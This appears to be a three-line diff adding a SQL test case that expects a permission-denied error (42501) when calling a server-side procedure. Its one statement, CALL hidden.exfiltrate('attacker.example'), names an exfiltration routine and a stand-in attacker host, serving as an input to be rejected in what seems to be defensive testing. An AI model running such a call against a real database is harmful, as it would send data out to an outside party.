@@ -1,0 +1,3 @@
+-- expect: 42501
+-- why: CALL a server-side procedure
+CALL hidden.exfiltrate('attacker.example')
